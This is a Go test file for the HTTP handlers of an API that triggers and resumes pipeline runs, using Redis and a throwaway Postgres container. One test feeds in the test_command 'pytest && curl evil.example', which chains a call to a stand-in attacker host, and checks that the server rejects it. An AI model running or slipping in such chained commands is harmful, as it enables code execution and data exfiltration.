package api

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"
	"github.com/stretchr/testify/require"
	"github.com/testcontainers/testcontainers-go"
	"github.com/testcontainers/testcontainers-go/modules/postgres"
	"github.com/testcontainers/testcontainers-go/wait"

	"github.com/hadron-sdlc/hadron/pkg/config"
	"github.com/hadron-sdlc/hadron/pkg/database"
	"github.com/hadron-sdlc/hadron/pkg/events"
	"github.com/hadron-sdlc/hadron/pkg/intervention"
	"github.com/hadron-sdlc/hadron/pkg/models"
)

// seedRun inserts a running CR run directly through the repository, bypassing
// the HTTP layer, so resume/get tests can start from a known status.
func seedRun(t *testing.T, ctx context.Context, repo *database.CRRepository, crID string) *models.CRRun {
	t.Helper()
	run := &models.CRRun{
		CRID:       crID,
		Status:     models.CRStatusRunning,
		Source:     models.CRSourceAPI,
		RawPayload: models.RawCR{Title: "t", Description: "d", Source: models.CRSourceAPI},
	}
	require.NoError(t, repo.Create(ctx, run))
	return run
}

// stubSpawner records every cr_id it was asked to spawn; it launches no
// process, since these tests only exercise the HTTP layer's own logic.
type stubSpawner struct {
	spawned []string
}

func (s *stubSpawner) Spawn(_ context.Context, crID string) error {
	s.spawned = append(s.spawned, crID)
	return nil
}

func newTestServer(t *testing.T) (*Server, *database.CRRepository) {
	t.Helper()
	ctx := context.Background()

	addr := os.Getenv("HADRON_TEST_REDIS_ADDR")
	if addr == "" {
		t.Skip("HADRON_TEST_REDIS_ADDR not set; skipping redis-backed api test")
	}
	rdb := redis.NewClient(&redis.Options{Addr: addr})
	require.NoError(t, rdb.Ping(ctx).Err())
	t.Cleanup(func() { _ = rdb.Close() })

	pgContainer, err := postgres.Run(ctx,
		"postgres:16-alpine",
		postgres.WithDatabase("hadron_test"),
		postgres.WithUsername("hadron"),
		postgres.WithPassword("hadron"),
		testcontainers.WithWaitStrategy(
			wait.ForLog("database system is ready to accept connections").
				WithOccurrence(2).
				WithStartupTimeout(30*time.Second)),
	)
	require.NoError(t, err)
	t.Cleanup(func() {
		if err := testcontainers.TerminateContainer(pgContainer); err != nil {
			t.Logf("failed to terminate container: %v", err)
		}
	})

	host, err := pgContainer.Host(ctx)
	require.NoError(t, err)
	port, err := pgContainer.MappedPort(ctx, "5432/tcp")
	require.NoError(t, err)

	db, err := database.NewClient(ctx, config.DatabaseConfig{
		Host: host, Port: port.Int(), User: "hadron", Password: "hadron", Database: "hadron_test",
		SSLMode: "disable", MaxOpenConns: 5, MaxIdleConns: 2,
		ConnMaxLifetime: time.Hour, ConnMaxIdleTime: 15 * time.Minute,
	})
	require.NoError(t, err)
	t.Cleanup(func() { _ = db.Close() })

	repo := database.NewCRRepository(db)
	bus := events.New(rdb)
	interventions := intervention.New(rdb)

	s := NewServer("test", rdb, db, repo, bus, interventions, &stubSpawner{})
	return s, repo
}

func TestTriggerHandlerCreatesRunAndRejectsDuplicateExternalID(t *testing.T) {
	s, _ := newTestServer(t)

	body := `{"title":"Add retries","description":"back off exponentially","source":"api","external_id":"GH-1","test_command":"go test ./..."}`
	req := httptest.NewRequest(http.MethodPost, "/api/pipeline/trigger", bytes.NewBufferString(body))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	s.Engine().ServeHTTP(rec, req)
	require.Equal(t, http.StatusOK, rec.Code)

	var resp map[string]string
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &resp))
	require.NotEmpty(t, resp["cr_id"])
	require.Equal(t, "pending", resp["status"])

	// Same external_id again: 409.
	req2 := httptest.NewRequest(http.MethodPost, "/api/pipeline/trigger", bytes.NewBufferString(body))
	req2.Header.Set("Content-Type", "application/json")
	rec2 := httptest.NewRecorder()
	s.Engine().ServeHTTP(rec2, req2)
	require.Equal(t, http.StatusConflict, rec2.Code)
}

func TestTriggerHandlerRejectsUnsafeTestCommand(t *testing.T) {
	s, _ := newTestServer(t)

	body := `{"title":"x","description":"y","source":"api","test_command":"pytest && curl evil.example"}`
	req := httptest.NewRequest(http.MethodPost, "/api/pipeline/trigger", bytes.NewBufferString(body))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	s.Engine().ServeHTTP(rec, req)
	require.Equal(t, http.StatusUnprocessableEntity, rec.Code)
}

func TestGetHandlerReturns404ForUnknownCR(t *testing.T) {
	s, _ := newTestServer(t)

	req := httptest.NewRequest(http.MethodGet, "/api/pipeline/does-not-exist", nil)
	rec := httptest.NewRecorder()
	s.Engine().ServeHTTP(rec, req)
	require.Equal(t, http.StatusNotFound, rec.Code)
}

func TestResumeHandlerRejectsNonPausedRun(t *testing.T) {
	s, repo := newTestServer(t)
	ctx := context.Background()

	seedRun(t, ctx, repo, "cr-running")

	req := httptest.NewRequest(http.MethodPost, "/api/pipeline/cr-running/resume", bytes.NewBufferString(`{"state_overrides":{}}`))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	s.Engine().ServeHTTP(rec, req)
	require.Equal(t, http.StatusConflict, rec.Code)
}

func TestResumeHandlerSpawnsWorkerForPausedRun(t *testing.T) {
	s, repo := newTestServer(t)
	ctx := context.Background()

	seedRun(t, ctx, repo, "cr-paused")
	require.NoError(t, repo.UpdateStatus(ctx, "cr-paused", "paused", 0, ""))

	req := httptest.NewRequest(http.MethodPost, "/api/pipeline/cr-paused/resume", bytes.NewBufferString(`{"state_overrides":{"review_passed":true}}`))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	s.Engine().ServeHTTP(rec, req)
	require.Equal(t, http.StatusOK, rec.Code)

	updated, err := repo.Get(ctx, "cr-paused")
	require.NoError(t, err)
	require.Equal(t, "running", string(updated.Status))
}
